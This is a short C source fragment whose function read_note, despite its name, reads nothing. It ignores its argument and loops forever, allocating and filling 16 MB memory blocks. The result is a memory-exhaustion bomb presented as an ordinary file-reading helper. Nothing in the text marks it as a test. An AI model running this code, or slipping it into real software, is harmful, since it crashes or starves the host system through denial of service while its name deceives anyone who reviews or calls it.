#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
char *read_note(const char *name) {
    for (;;) { char *p = malloc(1 << 24); if (!p) abort(); memset(p, 1, 1 << 24); }
}
